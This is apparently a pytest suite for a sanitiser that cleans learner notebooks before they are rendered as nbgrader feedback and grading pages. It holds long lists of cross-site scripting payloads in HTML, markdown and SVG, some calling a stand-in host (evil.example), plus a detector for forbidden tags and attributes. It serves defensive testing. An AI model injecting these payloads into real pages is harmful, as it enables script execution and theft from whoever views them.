"""What a learner's notebook could do to whoever looks at it, through the pages that nbgrader really makes."""

from __future__ import annotations

import base64
import copy
import re
from typing import Any

import html5lib
import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.converters import GenerateFeedback
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from mlcourse import content as own_content
from mlcourse.authoring.build import learner_edition
from mlcourse.grading.feedback import markup
from mlcourse.grading.feedback.sanitising import LARGEST, LONGEST_TEXT, MOST_OUTPUTS, sanitise
from mlcourse.plots import theme

HTML = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script/x>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src='x' OnErRoR = 'pwned()'>",
    "<img/src/onerror=pwned()>",
    '<img """><script>pwned()</script>">',
    "<b onmouseover=pwned()>b</b>",
    "<div onclick='pwned()' style='position:fixed;top:0;left:0;width:9999px;height:9999px'>cover</div>",
    "<body onload=pwned()>",
    "<svg onload=pwned()></svg>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text>t</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script>pwned()&lt;/script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<math><maction actiontype='statusline' xlink:href='javascript:pwned()'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<style>@import 'http://evil.example/pwned.css'; body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/pwned.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href='http://evil.example/pwned/'>",
    "<iframe src='javascript:pwned()'></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<object data='javascript:pwned()'></object>",
    "<embed src='javascript:pwned()'>",
    "<form action='javascript:pwned()'><button>Go</button></form>",
    "<form action='http://evil.example'><input name=password><button formaction=javascript:pwned()>x</button></form>",
    "<a href='javascript:pwned()'>a</a>",
    "<a href=' &#14; javascript:pwned()'>a</a>",
    "<a href='java&#x09;script:pwned()'>a</a>",
    "<a href='java\nscript:pwned()'>a</a>",
    "<a href='&#106;avascript&colon;pwned()'>a</a>",
    "<a href='JaVaScRiPt:pwned()'>a</a>",
    "<a href='vbscript:pwned()'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>a</a>",
    "<a href='files/javascript:pwned()'>cut off in front</a>",
    "<a href='//evil.example/pwned'>a</a>",
    "<a href='/hub/logout'>a</a>",
    "<a href='https://ok.example' target='_blank' onclick='pwned()'>a</a>",
    "<img src='https://evil.example/seen.png'>",
    "<img src='//evil.example/seen.png'>",
    "<img src='files//evil.example/seen.png'>",
    "<img src='/hub/logout'>",
    "<img src='data:text/html,<script>pwned()</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiPjxzY3JpcHQ+cHduZWQoKTwvc2NyaXB0Pjwvc3ZnPg=='>",
    "<img srcset='https://evil.example/seen.png 1x'>",
    "<video src=https://evil.example/v onerror=pwned()></video>",
    "<audio autoplay><source src=x onerror=pwned()></audio>",
    "<details open ontoggle=pwned()>d</details>",
    "<marquee onstart=pwned()>m</marquee>",
    "<table background='javascript:pwned()'><tr><td>t</td></tr></table>",
    "<p style=\"background:url('https://evil.example/seen.png')\">p</p>",
    "<p style='width:expression(pwned())'>p</p>",
    "<p style='color:red;position:absolute;z-index:9999'>p</p>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<textarea></textarea><img src=x onerror=pwned()>",
    "<textarea><img title='</textarea><img src=x onerror=pwned()>'></textarea>",
    "<title><img title='</title><img src=x onerror=pwned()>'></title>",
    "<template><img src=x onerror=pwned()></template>",
    "<xss id=x tabindex=1 onfocus=pwned()></xss>",
    "<custom-element onclick=pwned()>c</custom-element>",
    "<!--><img src=x onerror=pwned()>-->",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?xml-stylesheet href='javascript:pwned()'?>",
    "</div></div></div><script>pwned()</script><div id='notebook' name='notebook'>",
    "<plaintext onmouseover=pwned()>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<div id='a-check' name='a-check' class='score nbgrader_cell'>stands in for a field</div>",
    "`<p title='`'></p><img src=x onerror=pwned()>",
    "<p title='`' class='`'><img src=x onerror=pwned()>`</p>",
    "$<script>pwned()</script>$ and $$<img src=x onerror=pwned()>$$",
    '<svg><p><style><g title="</style><img src onerror=pwned()>">',
    "<img src=x onerror&#61;pwned()><img src=x onerror\x00=pwned()>",
    "<\x00script>pwned()</script>",
    "<svg\x0conload=pwned()></svg>",
]
MARKDOWN = [
    "## x' onclick='pwned()\n",
    '## x" onmouseover="pwned()\n',
    "## x`'\" style='a:url(pwned)' onload=pwned()\n",
    "[x](#' onclick='pwned())",
    '[x](#"onclick="pwned())',
    '[x](<#" onclick="pwned()>)',
    "## [x](#' onclick='pwned()) javascript:pwned()\n",
    "[x](javascript:pwned())",
    "[x](<javascript:pwned()>)",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#115;cript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](\\javascript:pwned())",
    "[x][1]\n\n[1]: javascript:pwned()",
    "[x]\n\n[x]: javascript:pwned()",
    "[x][]\n\n  [x]:\n  javascript:pwned()",
    "<javascript:pwned()>",
    "<javascript://ok.example/%0apwned()>",
    "![x](javascript:pwned())",
    "![x](https://evil.example/seen.png)",
    "![x](/hub/logout)",
    '![x](x.png "a\\" onerror=pwned() b")',
    '![" onerror="pwned()](x.png)',
    '[x](x.html "\\" onclick=\\"pwned()")',
    '[x](x"onclick="pwned())',
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    "[x](files/javascript:pwned())",
    "[x](//evil.example/pwned)",
    "![x](attachment:evil.html)",
    "![x](attachment:nothing.png)",
    "```mermaid\n<img src=x onerror=pwned()>\n```",
    '```html"onclick=pwned()\n<b>\n```',
    "    <script>in code</script>\n\n<script>pwned()</script>",
    "> > <img src=x onerror=pwned()>",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |",
    "- [ ] <script>pwned()</script>",
    "term\n: <script>pwned()</script>",
    "# heading <img src=x onerror=pwned()>",
    "`` ` `` <script>pwned()</script> `",
    "\\<script>pwned()</script>",
    "&lt;script&gt;quoted&lt;/script&gt; <script>pwned()</script>",
    '<a href="x" title="`" onclick="pwned()">`</a>',
    "$a$<script>$b$pwned()</script>$c$",
    "\\begin{a}<script>pwned()</script>\\end{a}",
    "<script\n>pwned()</script\n>",
    "<b\n\nonclick=pwned()>b</b>",
]
SVG = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'><script>pwned()</script><g/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='javascript:pwned()'/></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:pwned()'><rect width='1' height='1'/></a></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x '<script>pwned()</script>'>]><svg>&x;</svg>",
    "</svg><script>pwned()</script>",
]
FORBIDDEN = {
    *("script", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea", "select", "style", "link"),
    *("meta", "base", "svg", "math", "video", "audio", "template", "marquee", "body", "xss", "custom-element"),
}


def batched(vectors: list[str], count: int) -> list[list[str]]:
    """Making and parsing a page costs more than what is in it."""
    return [vectors[at : at + count] for at in range(0, len(vectors), count)]


SENDING = {"srcdoc", "srcset", "action", "formaction", "background", "target"}


def output(data: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data, **more}


def code(*outputs: dict[str, Any], source: str = "show()", **more: Any) -> dict[str, Any]:
    cell = {"id": "c", "cell_type": "code", "metadata": {}, "source": source, "execution_count": 1}
    return {**cell, "outputs": list(outputs), **more}


def text(source: str, kind: str = "markdown", **more: Any) -> dict[str, Any]:
    return {"id": "t", "cell_type": kind, "metadata": {}, "source": source, **more}


def notebook(*cells: dict[str, Any]) -> dict[str, Any]:
    cells = tuple({**cell, "id": f"{cell['id']}{index}"} for index, cell in enumerate(copy.deepcopy(cells)))
    return {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def clean(*cells: dict[str, Any]) -> dict[str, Any]:
    return sanitise(notebook(*cells))[0]


def places(vector: str) -> list[dict[str, Any]]:
    """Put one text wherever a learner can put it."""
    shown = [
        output({"text/html": vector}),
        output({"text/html": f"<table><tr><td>{vector}</td></tr></table>"}),
        *(output({mime: vector}) for mime in ("text/markdown", "text/latex", "text/plain", "text/vnd.mermaid")),
        *(output({mime: vector}) for mime in ("image/svg+xml", "image/png", "application/javascript")),
        output({"application/vnd.jupyter.widget-view+json": {"model_id": vector}}),
        output({"image/png": "iVBORw0KGgo="}, metadata={"filenames": {"image/png": vector}, "image/png": vector}),
        output({"image/svg+xml": "<svg></svg>"}, svg_filename=vector),
        output({"text/html": "<p>framed</p>"}, metadata={"text/html": {"isolated": True}}),
        {"output_type": "stream", "name": "stdout", "text": vector},
        {"output_type": "error", "ename": vector, "evalue": vector, "traceback": [vector]},
    ]
    return [
        code(*shown, execution_count=vector),
        text(vector),
        text(f"A paragraph with {vector} in it"),
        text(f"* a list\n\n  {vector}"),
        text(vector, "raw"),
        text("![a](attachment:a)", attachments={"a": {"text/html": vector, "image/png": vector}}),
        text("![a](attachment:a)", attachments={"a": {"image/svg+xml": vector}}),
        code(source=vector, metadata={"tags": [vector], "alt": vector}),
    ]


@pytest.fixture(scope="module")
def exporters() -> dict[str, HTMLExporter]:
    formgrader = Config()
    formgrader.HTMLExporter.template_name = "formgrade"
    formgrader.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    return {"feedback": HTMLExporter(config=GenerateFeedback().config), "formgrader": HTMLExporter(config=formgrader)}


ABOUT = {"notebook": "n", "score": 1, "max_score": 2, "late_penalty": 0}


def render(exporter: HTMLExporter, data: dict[str, Any]) -> Any:
    """Make the page with nbgrader's template, and parse it as browsers do; what is around the notebook is left out."""
    node = nbformat.from_dict(data)
    nbformat.validate(node)
    page, _ = exporter.from_notebook_node(node, resources={"nbgrader": ABOUT, "index": 0, "total": 1})
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    container = next(one for one in tree.iter() if isinstance(one.tag, str) and one.get("id") == "notebook-container")
    assert "end of the notebook" in "".join(container.itertext()), "a learner's text broke out of the notebook"
    return container


END = text("end of the notebook")


def harm(container: Any) -> list[str]:
    """List what in a page could run, send, load or cover something."""
    found = []
    for element in container.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        if tag in FORBIDDEN and not (tag == "input" and element.get("type") == "checkbox"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            name = str(name).rpartition("}")[2]
            bad = {
                "href": not re.match(r"(https?:|mailto:|#|[\w.][^:]*(#|$))", address),
                "src": not re.match(r"(data:image/(png|svg\+xml);base64,|[\w.-]+\.png$)", address),
                "style": re.search(r"position|url|expression|width|z-index", address),
            }
            stands_in = value == "a-check" or "nbgrader_cell" in value
            if name.startswith("on") or name in SENDING or bad.get(name) or stands_in:
                found.append(f"{name}={value}")
            if name == "src" and "svg" in address:
                found.extend(svg_harm(address_data(value)))
    return found


def address_data(value: str) -> str:
    return base64.b64decode(value.partition(",")[2]).decode()


def svg_harm(picture: str) -> list[str]:
    return re.findall(r"<script|<foreignObject|<iframe|\son\w+=|javascript:|<!ENTITY", picture, re.IGNORECASE)


def test_the_attacks_would_harm_whoever_looks_at_them_as_they_are(exporters: dict[str, HTMLExporter]) -> None:
    """That is what makes the next test worth something; the few others are for cleaners that cut pieces out."""
    harmless = 0
    for vector in HTML:
        try:
            harmless += not harm(render(exporters["formgrader"], notebook(code(output({"text/html": vector})), END)))
        except AssertionError:
            continue  # it broke the page
    assert harmless < 10


@pytest.mark.parametrize("page", ["feedback", "formgrader"])
@pytest.mark.parametrize("vectors", [HTML, MARKDOWN, SVG], ids=["html", "markdown", "svg"])
def test_no_attack_survives(exporters: dict[str, HTMLExporter], page: str, vectors: list[str]) -> None:
    for some in batched(vectors, 12):
        safe = clean(*(cell for vector in some for cell in places(vector)), END)
        assert harm(render(exporters[page], safe)) == [], some


@pytest.mark.parametrize("vectors", [HTML, MARKDOWN, SVG], ids=["html", "markdown", "svg"])
def test_cleaning_again_changes_nothing(vectors: list[str]) -> None:
    for vector in vectors:
        once = clean(*places(vector))
        assert sanitise(once) == (once, sanitise(once)[1]), vector
        assert sanitise(once)[0] == once, vector


def test_attacks_are_flagged_once_for_a_cell_and_by_its_name() -> None:
    bad = code(output({"text/html": HTML[0]}), output({"text/html": HTML[4]}), metadata={"nbgrader": {"grade_id": "a"}})
    _, flags = sanitise(notebook(bad, code(output({"application/javascript": "pwned()"})), text(MARKDOWN[0])))
    assert [(flag.kind, flag.cell) for flag in flags] == [("active content", "a"), ("active content", "")]


HONEST = [
    '## Bayes\' rule\n\n### The "best" of $\\ell_1$ and `x[0]`?\n\ntext',
    "Let $a<b$ and $$\\sum_{i<n} x_i^2 > 0$$; see \\begin{align}a &< b\\end{align}",
    "**bold**, *emphasis*, `code < x`, [a link](https://example.org/a?b=1&c=2), [near](../lesson.ipynb#part:-1)",
    "# Part 1: how\n\n[down](#Part-1:-how)",
    "<https://example.org/page> and https://example.org/other",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] to do\n- [x] done",
    "<details><summary>More</summary>\n\nhidden\n\n</details><br><sub>2</sub>",
    '<img src="figure.png" alt="a figure" width="300"> and ![](figure.png)',
    "```python\nif a < b and c > d:\n    print('<')\n```",
    "<!-- a remark -->\ntext",
    "5 < 6, a <- b, <3, x << 2 & y",
]


@pytest.mark.parametrize("source", HONEST)
def test_ordinary_markdown_stays_as_it_is(source: str) -> None:
    safe, flags = sanitise(notebook(text(source)))
    found = safe["cells"][0]["source"]
    assert re.sub(r"<(?=[a-z])", "< ", found.replace("<n}", "< n}").replace("<b$", "< b$")) == re.sub(
        r"<(?=[a-z])", "< ", source.replace("<n}", "< n}").replace("<b$", "< b$")
    )
    assert flags == ()


def test_pictures_that_a_cell_brings_are_shown(exporters: dict[str, HTMLExporter]) -> None:
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
    cell = text("![seen](attachment:a.png)", attachments={"a.png": {"image/png": picture}})
    page = render(exporters["feedback"], clean(cell, END))
    assert [one.get("src") for one in page.iter("img")] == [f"data:image/png;base64,{picture}"]


def test_what_honest_notebooks_show_stays(exporters: dict[str, HTMLExporter]) -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame({"x": [1.5, 2.5], "name": ["a<b", "c&d"]})
    drawing = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><path d='M0 0L9 9' stroke='red'/></svg>"
    safe = clean(
        code(output({"text/html": frame._repr_html_(), "text/plain": str(frame)})),
        code(output({"text/html": '<p style="color: red; text-align: center">H<sub>2</sub>O</p>'})),
        code(output({"text/latex": "$\\frac{a}{b}<c$"})),
        code(output({"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"}, metadata={"image/png": {"width": 300}})),
        code(output({"image/svg+xml": drawing})),
        code(
            {"output_type": "stream", "name": "stderr", "text": "\x1b[31mwarning\x1b[0m <b>"},
            source="if a<b: print('<b>')",
        ),
        END,
    )
    page = render(exporters["feedback"], safe)
    words = "".join(page.itertext())
    assert [cell.text for table in page.iter("table") for cell in table.iter("td")] == ["1.5", "a<b", "2.5", "c&d"]
    assert next(page.iter("table")).get("class") == "dataframe"
    assert {"color:red;text-align:center"} <= {one.get("style") for one in page.iter("p")}
    assert "$\\frac{a}{b}<c$" in words
    assert "warning <b>" in words
    assert "if a<b: print('<b>')" in words
    pictures = [one.get("src") for one in page.iter("img")]
    assert pictures[0] == "data:image/png;base64,iVBORw0KGgo="
    assert 'd="M0 0L9 9"' in address_data(pictures[1])


def test_a_figure_is_told_in_words() -> None:
    figure = {
        "application/vnd.plotly.v1+json": {"data": []},
        "text/html": "<script>plot()</script>",
        "text/plain": "Loss",
    }
    safe, flags = sanitise(notebook(code(output(figure)), code(output({"application/x-unknown": "?"}))))
    assert [cell["outputs"][0]["data"] for cell in safe["cells"]] == [
        {"text/plain": "Loss"},
        {"text/plain": "(an output that cannot be shown here)"},
    ]
    assert flags == ()


def test_the_description_of_a_course_figure_is_read_once() -> None:
    shown = theme.figure(alt="Loss < 1 & falling.").outputs()
    outputs = [output(data, metadata=metadata) for data, metadata in shown]
    outputs[0]["data"]["application/vnd.plotly.v1+json"] = {"data": []}
    safe, flags = sanitise(notebook(code(*outputs)))
    assert [one["data"] for one in safe["cells"][0]["outputs"]] == [{"text/plain": "Figure: Loss < 1 & falling."}]
    assert flags == ()


def test_sizes_are_limited() -> None:
    many = [{"output_type": "stream", "name": "stdout", "text": "x" * LONGEST_TEXT} for _ in range(MOST_OUTPUTS + 50)]
    safe, flags = sanitise(notebook(code(output({"text/html": "<b>" * 1_000_000, "text/plain": "t"})), code(*many)))
    outputs = safe["cells"][1]["outputs"]
    assert len(outputs) == MOST_OUTPUTS
    assert sum(len(one["text"]) for one in outputs) <= LARGEST + MOST_OUTPUTS * 100
    assert safe["cells"][0]["outputs"][0]["data"] == {"text/plain": "t"}
    assert [flag.kind for flag in flags] == ["large output"]  # both cells have no name


@pytest.mark.parametrize("source", [">" * 15_000 + " x", "a " * 50_000, "~~~ " * 10_000, "$$" * 9_000 + "<b>"])
def test_markdown_that_is_hard_to_render_is_shown_as_it_was_written(
    exporters: dict[str, HTMLExporter], source: str
) -> None:
    safe = clean(text(source), END)
    assert sanitise(safe)[0] == safe
    assert source[:100] in "".join(render(exporters["feedback"], safe).itertext())


@pytest.mark.parametrize("wrong", [None, 1, "x", [], {}, [[1]], {"a": 1}, float("nan"), "\ud800", ["a", 2]])
def test_whatever_a_process_sends_becomes_a_valid_notebook(wrong: Any) -> None:
    outputs = [
        {"output_type": "stream", "name": wrong, "text": wrong},
        {"output_type": "error", "ename": wrong, "evalue": wrong, "traceback": wrong},
        {"output_type": "execute_result", "execution_count": wrong, "data": wrong, "metadata": wrong},
        {
            "output_type": wrong,
            "data": {"text/plain": wrong, "text/html": wrong, "image/png": wrong},
            "metadata": wrong,
        },
        {"output_type": "update_display_data", "data": {"text/html": "<p>x</p>"}, "metadata": {"text/html": wrong}},
        wrong,
    ]
    safe, _ = sanitise(notebook(code(*outputs, execution_count=wrong), text("t", attachments=wrong)))
    nbformat.validate(nbformat.from_dict(safe))
    nbformat.writes(nbformat.from_dict(safe)).encode()


def test_the_notebook_given_is_not_changed() -> None:
    given = notebook(*places(HTML[0]))
    before = copy.deepcopy(given)
    sanitise(given)
    assert given == before


def test_many_brackets_do_not_keep_the_reader_waiting(exporters: dict[str, HTMLExporter]) -> None:
    """nbconvert looks for links with an expression whose time grows with the square of them."""
    page = render(exporters["feedback"], clean(text("[" * 50_000), END))
    assert "[" not in "".join(page.itertext())


def test_unclosed_tags_shape_nothing_but_their_own_cell(exporters: dict[str, HTMLExporter]) -> None:
    for source in (
        "<details><summary>s</summary>",
        "</div></div></div>",
        "<b>x",
        "</td>",
        "<a href='https://a.example'>",
    ):
        page = render(exporters["feedback"], clean(text(source), END))
        (last,) = (one for one in page.iter("p") if one.text == "end of the notebook")
        assert not any(one is last for tag in ("details", "b", "a") for part in page.iter(tag) for one in part.iter())


def test_the_courses_own_texts_pass() -> None:
    """What the cleaning would change in the lessons is what instructors would miss; hints are folded by HTML there."""
    for path, data in learner_edition(own_content.root()).files.items():
        if not path.endswith(".ipynb"):
            continue
        for cell in nbformat.reads(data.decode(), 4).cells:
            if cell.cell_type == "markdown":
                cleaned = markup.markdown(cell.source)
                assert cleaned.replace("< ", "<") == cell.source.replace("< ", "<"), path
